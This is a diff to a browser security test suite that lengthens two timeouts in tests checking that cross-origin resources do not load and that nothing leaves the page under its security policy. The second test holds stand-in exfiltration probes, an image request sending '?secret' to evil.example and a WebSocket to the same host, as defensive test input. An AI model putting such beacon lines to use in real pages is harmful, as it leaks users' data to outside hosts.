@@ -139,7 +139,7 @@ def test_a_page_of_another_origin_shows_and_reads_nothing(foreign, server: Serve
                 element.onerror = () => done("refused");
                 element.setAttribute(name, origin + path);
                 document.body.append(element);
-                setTimeout(() => done("nothing"), 3000);
+                setTimeout(() => done("nothing"), 30000);
             });
             found.script = await load("script", "src", "/page/main.js");
             found.image = await load("img", "src", "/page/icon.svg");
@@ -209,7 +209,7 @@ def test_nothing_leaves_the_page(context):
             found.push(await new Promise((done) => {
                 document.addEventListener("securitypolicyviolation", () => done("kept"));
                 new Image().src = "http://evil.example/?secret";
-                setTimeout(() => done("left"), 3000);
+                setTimeout(() => done("left"), 30000);
             }));
             try { new WebSocket("ws://evil.example/"); found.push("left"); }
             catch { found.push("kept"); }
